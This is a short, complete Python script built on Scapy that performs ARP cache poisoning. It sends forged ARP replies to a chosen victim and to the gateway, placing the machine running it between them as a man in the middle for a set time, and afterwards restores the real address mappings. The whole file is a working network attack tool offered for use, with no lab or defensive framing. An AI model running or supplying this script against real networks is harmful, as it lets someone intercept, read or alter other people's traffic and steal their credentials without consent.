#!/usr/bin/env python3
# Stands between two hosts by lying to both about who has the other's address; Ctrl-C tells them the truth.
import argparse
import signal
import sys
import threading
import time

from scapy.all import *

stop = threading.Event()


def get_mac(ip, iface):
    ans, _ = srp(Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(pdst=ip), timeout=2, retry=2, iface=iface, verbose=False)
    for _, rcv in ans:
        return rcv[Ether].src
    raise SystemExit("[!] no answer from %s" % ip)


def poison(target_ip, target_mac, pretend_ip, iface):
    pkt = Ether(dst=target_mac) / ARP(op=2, psrc=pretend_ip, pdst=target_ip, hwdst=target_mac)
    while not stop.is_set():
        sendp(pkt, iface=iface, verbose=0)
        stop.wait(0.3)


def restore(victim, gateway, macs, iface):
    for a, b in ((victim, gateway), (gateway, victim)):
        sendp(Ether(dst=macs[a]) / ARP(op="is-at", psrc=b, hwsrc=macs[b], pdst=a, hwdst=macs[a]),
              count=4, inter=0.5, iface=iface, verbose=0)


def main():
    parser = argparse.ArgumentParser(description="ARP cache poisoning")
    parser.add_argument("-i", "--iface", default="eth0")
    parser.add_argument("-t", "--time", type=float, default=5, help="seconds")
    parser.add_argument("victim")
    parser.add_argument("gateway")
    args = parser.parse_args()

    macs = {ip: get_mac(ip, args.iface) for ip in (args.victim, args.gateway)}
    for ip, mac in macs.items():
        print("[+] %s is at %s" % (ip, mac))
    threads = [
        threading.Thread(target=poison, args=(args.victim, macs[args.victim], args.gateway, args.iface)),
        threading.Thread(target=poison, args=(args.gateway, macs[args.gateway], args.victim, args.iface), daemon=True),
    ]
    for t in threads:
        t.start()
    print("[*] poisoning", flush=True)
    try:
        time.sleep(args.time)
    except KeyboardInterrupt:
        print("[*] interrupted")
    stop.set()
    threads[0].join()
    restore(args.victim, args.gateway, macs, args.iface)
    print("[*] restored")


if __name__ == "__main__":
    main()
